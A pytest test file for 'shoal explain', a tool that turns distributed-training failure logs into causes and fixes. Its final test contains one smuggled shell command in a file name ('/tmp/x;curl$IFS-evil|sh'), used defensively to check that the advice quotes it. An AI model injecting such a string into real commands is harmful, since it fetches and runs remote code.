"""`shoal explain`: every stored log of a real failure is explained by its own cause, and nothing else is."""

from __future__ import annotations

import ast
import io
import re
import tracemalloc
from collections.abc import Iterable
from pathlib import Path

import pytest

from shoal.tools.doctor import checks
from shoal.tools.doctor.checks import CHECK_MEANINGS
from shoal.tools.explain.explain import (
    Findings,
    explain,
    explain_file,
    explain_stream,
    explain_text,
    merge,
    true_port,
    with_true_ports,
)
from shoal.tools.explain.pattern import CauseOrder, fill_in
from shoal.tools.explain.patterns import PATTERNS
from tests.support.failures.catalogue import DOCUMENT, renewed
from tests.support.failures.expected import EXPECTED
from tests.support.failures.produce import MOST_LINES
from tests.support.failures.registry import FAILURES
from tests.support.paths import FAILURE_LOGS, ROOT

FOLDER = FAILURE_LOGS
LOGS = {path.name.removesuffix(".log"): path for path in sorted(FOLDER.glob("*.log"))}
HEALTHY = [name for name in LOGS if name.startswith("healthy+")]
BY_ID = {pattern.id: pattern for pattern in PATTERNS}


def id_of(name: str) -> str:
    return name.partition("+")[0]


def ids(found: Findings) -> list[str]:
    return [each.id for each in found.explanations]


@pytest.mark.parametrize("name", EXPECTED)
def test_a_real_failure_is_explained_by_its_cause(name: str) -> None:
    text = LOGS[name].read_text(encoding="utf-8")
    found = explain_text(text)
    assert found.best is not None
    assert found.best.id == id_of(name)
    assert EXPECTED[name].words in found.best.evidence.text
    assert sorted(ids(found)[1:]) == sorted(EXPECTED[name].also)
    line = text.splitlines()[found.best.evidence.line - 1].strip()
    assert line.startswith(re.sub(r" \(really port \d+\)", "", found.best.evidence.text).rstrip("…"))


@pytest.mark.parametrize("name", EXPECTED)
def test_no_pattern_fires_on_another_failure(name: str) -> None:
    """Before anything is left out: what else matches is named as also true, or says the same less exactly."""
    lines = LOGS[name].read_text(encoding="utf-8").splitlines()
    fires = {
        pattern.id
        for pattern in PATTERNS
        for line in lines
        if any(sign in line for sign in pattern.signs) and pattern.match(line) is not None
    }
    kin = {id_of(name), *BY_ID[id_of(name)].covers, *EXPECTED[name].also}
    kin |= {other for each in EXPECTED[name].also for other in BY_ID[each].covers}
    assert fires <= kin


def test_every_pattern_was_provoked_and_every_log_has_one() -> None:
    assert {id_of(name) for name in EXPECTED} == BY_ID.keys()
    assert len(BY_ID) == len(PATTERNS) >= 25
    assert set(LOGS) == {*EXPECTED, *HEALTHY, "unknown"}
    assert set(LOGS) == set(FAILURES)
    assert all(len(path.read_text(encoding="utf-8").splitlines()) <= MOST_LINES for path in LOGS.values())


def test_patterns_name_what_there_is() -> None:
    for pattern in PATTERNS:
        assert pattern.check in ("", *CHECK_MEANINGS), pattern.id
        assert set(pattern.covers) | set(pattern.only_with) <= BY_ID.keys(), pattern.id
        said = fill_in(pattern.cause + pattern.fix, {})
        assert "GLOO_PORT_RANGE" not in said or "does not exist" in said


def test_the_list_of_checks_is_what_doctor_can_find() -> None:
    """By reading the checks: nothing else in them is written like an id."""
    trees = [ast.parse(path.read_text(encoding="utf-8")) for path in Path(checks.__file__).parent.glob("*.py")]
    words = [node.value for tree in trees for node in ast.walk(tree) if isinstance(node, ast.Constant)]
    assert {word for word in words if re.fullmatch(r"[a-z]+\.[a-z-]+", str(word))} == CHECK_MEANINGS.keys()
    table = ROOT / "docs" / "doctor.md"
    assert {
        name for name in CHECK_MEANINGS if f"| `{name}` | {CHECK_MEANINGS[name]} |" in table.read_text()
    } == CHECK_MEANINGS.keys()


@pytest.mark.parametrize("name", [*HEALTHY, "prose"])
def test_nothing_is_found_where_nothing_failed(name: str) -> None:
    path = LOGS.get(name, FOLDER / "prose.txt")
    assert ids(explain_file(path)) == []


def test_what_nobody_knows_is_shown_before_its_consequences() -> None:
    found = explain_file(LOGS["unknown"])
    assert ids(found) == ["torchrun.child-failed", "gloo.peer-closed"]
    assert not found.is_explained
    assert found.unknown is not None
    assert found.unknown.text == "[rank1]: ValueError: the answer is 42, not 41"


def test_the_cause_comes_first_whatever_was_printed_first() -> None:
    """One rank's complaint stands above the traceback of the rank that failed."""
    text = LOGS["gloo.peer-closed"].read_text() + LOGS["ddp.unused-parameters"].read_text()
    assert ids(explain_text(text)) == ["ddp.unused-parameters", "gloo.peer-closed"]
    parts = [explain_text(LOGS[name].read_text()) for name in ("gloo.peer-closed", "ddp.unused-parameters")]
    assert ids(merge(parts)) == ["ddp.unused-parameters", "gloo.peer-closed"]


def test_a_warning_that_came_to_nothing_explains_nothing() -> None:
    """A name that was not known at first, in a training that failed for another reason."""
    warning = LOGS["store.name"].read_text().splitlines()[0]
    assert ids(explain_text(f"{warning}\n")) == []
    assert ids(explain_text(f"{warning}\n{LOGS['disk.full'].read_text()}")) == ["disk.full"]


def test_a_line_of_the_program_is_not_what_it_printed() -> None:
    lines = ('  File "train.py", line 3, in check', "    raise OSError('No space left on device')")
    assert ids(explain_text("\n".join(lines))) == []
    assert ids(explain_text("\n".join((*lines, "OSError: No space left on device")))) == ["disk.full"]


@pytest.mark.parametrize("before", ["[rank1]: ", "[1] ", "\x1b[31m", "2026-01-31 12:00:00 node1 | ", "[default0]:"])
def test_whatever_stands_before_a_line(before: str) -> None:
    """Launchers and loggers put their own words there."""
    for name in ("disk.full", "memory.allocation", "gloo.timeout", "ssh.denied", "torchrun.join-timeout"):
        text = "\n".join(before + line for line in LOGS[name].read_text().splitlines())
        assert ids(explain_text(text))[0] == name


@pytest.mark.parametrize(
    ("text", "id_"),
    [
        ("RuntimeError: [../third_party/gloo/gloo/transport/tcp/pair.cc:799] connect [127.0.1.1]:45963: "
         "Connection refused", "gloo.loopback"),
        ("RuntimeError: [../third_party/gloo/gloo/transport/tcp/pair.cc:799] connect [10.0.0.7]:45963: "
         "Connection refused", "gloo.connect-refused"),
        ("[rank1]: RuntimeError: Gloo connectFullMesh failed with [../third_party/gloo/gloo/transport/tcp/pair.cc:144] "
         "no error", "gloo.no-error"),
        ("[E ProcessGroupNCCL.cpp:737] [Rank 1] Watchdog caught collective operation timeout: WorkNCCL(SeqNum=469508, "
         "OpType=ALLREDUCE, Timeout(ms)=1800000) ran for 1802212 milliseconds before timing out.", "cuda.watchdog"),
        ("ncclInternalError: Internal check failed.\nLast error:\nBootstrap : no socket interface found",
         "cuda.nccl-interface"),
        ("AttributeError: module 'torch._C' has no attribute '_cuda_getDeviceCount'", "cuda.missing"),
        ("slurmstepd: error: Detected 1 oom-kill event(s) in step 3495064.0 cgroup. Some of your processes may have "
         "been killed by the cgroup out-of-memory handler.", "memory.slurm"),
        ("torch._dynamo.exc.BackendCompilerFailed: debug_wrapper raised OSError: /tmp/torchinductor_me/wg/cw.so: file "
         "too short", "train.short-library"),
        ("Bus error (core dumped)", "system.bus-error"),
        ("RuntimeError: DataLoader worker (pid 71) is killed by signal: Bus error. It is possible that dataloader's "
         "workers are out of shared memory.", "data.shared-memory"),
    ],
)  # fmt: skip
def test_the_words_of_other_versions(text: str, id_: str) -> None:
    found = explain_text(text).best
    assert found is not None
    assert found.id == id_
    assert not re.search(r"\{\w+\}", found.cause + found.fix)


@pytest.mark.parametrize(
    "text",
    ["He was Killed in the last chapter", "3 processes Killed, 2 alive", "no Bus error was seen", "all Killed off"],
)
def test_a_word_in_a_sentence_is_no_message(text: str) -> None:
    assert ids(explain_text(text)) == []


def test_what_shoal_says_itself_is_taken_from_it() -> None:
    own = explain_file(LOGS["shoal.different"]).best
    assert own is not None
    assert own.fix == "bring all machines to the same versions: shoal setup HOSTS"
    assert own.check == "sameness.torch"
    other = explain_text("[0] error: it is broken\n[0]   why:  somebody sat on it\n[0]   next: buy another\n").best
    assert other is not None
    assert (other.id, other.cause, other.fix) == ("shoal.error", "somebody sat on it", "buy another")
    assert ids(explain_text("error: somebody else's\nand its next line\n")) == []


@pytest.mark.parametrize("text", ["", "\n\n\n", "all is well\n", "\0\0\xff"])
def test_nothing_to_explain(text: str) -> None:
    assert explain_text(text) == Findings()


def test_any_other_error_is_shown_as_it_is() -> None:
    found = explain_text("step 1\nstep 2\nmake: *** [all] Error 2\nmore\n")
    assert ids(found) == []
    assert found.unknown is not None
    assert (found.unknown.line, found.unknown.text) == (3, "make: *** [all] Error 2")


def numbered(lines: Iterable[str]) -> Iterable[tuple[int, str]]:
    return enumerate(lines, 1)


def test_a_long_log_is_read_with_little_memory() -> None:
    """10 MB of steps, the failure at the very end; then the same failure a thousand times."""
    steps = (f"step {step} loss 3.14159 and more words to fill the line" for step in range(200_000))
    last = LOGS["disk.full"].read_text().splitlines()
    tracemalloc.start()
    found = explain(numbered(line for part in (steps, last) for line in part))
    again = explain(numbered(line for _ in range(1000) for line in last))
    peak_bytes = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert found.best is not None
    assert (found.best.id, found.best.evidence.line) == ("disk.full", 200_000 + len(last))
    assert again.best is not None
    assert again.best.count == 1000
    assert peak_bytes < 2 << 20


def test_a_line_without_an_end_and_bytes_that_are_no_text() -> None:
    junk = bytes(range(256)) * 4000
    found = explain_stream(io.BytesIO(junk.replace(b"\n", b"") + b"\nOSError: [Errno 28] No space left on device\xff"))
    assert ids(found) == ["disk.full"]
    assert found.best is not None
    assert found.best.evidence.line == 2
    assert len(found.best.evidence.text) < 600


def test_gloo_swaps_the_bytes_of_its_ports() -> None:
    assert true_port(14215) == 34615
    assert all(true_port(true_port(port)) == port for port in range(65536))
    line = "[/a/gloo/transport/tcp/pair.cc:537] Read error [10.77.0.1]:14215: Connection reset by peer"
    assert "[10.77.0.1]:14215 (really port 34615): Connection" in with_true_ports(line)
    ours = "[c10d] The client socket has timed out, remote=[::ffff:10.77.0.1]:29500"
    assert with_true_ports(ours) == ours


def test_weights_sort_from_the_cause_to_what_does_no_harm() -> None:
    assert CauseOrder.CAUSE < CauseOrder.LIKELY < CauseOrder.REPORT < CauseOrder.CONSEQUENCE < CauseOrder.HARMLESS


def test_the_documentation_lists_every_explanation_and_check() -> None:
    assert DOCUMENT.read_text(encoding="utf-8") == renewed(), "renew it: python -m tests.support.failures.catalogue"


def test_what_a_log_names_is_quoted_where_it_becomes_part_of_a_command() -> None:
    """The log may come from another machine, and the advice is there to be pasted."""
    line = "python: can't open file '/tmp/x;curl$IFS-evil|sh': [Errno 2] No such file or directory"
    [found] = explain_text(line).explanations
    assert ";curl" not in found.fix.replace("'/tmp/x;curl$IFS-evil|sh'", "")
    assert "'/tmp/x;curl$IFS-evil|sh'" in found.fix
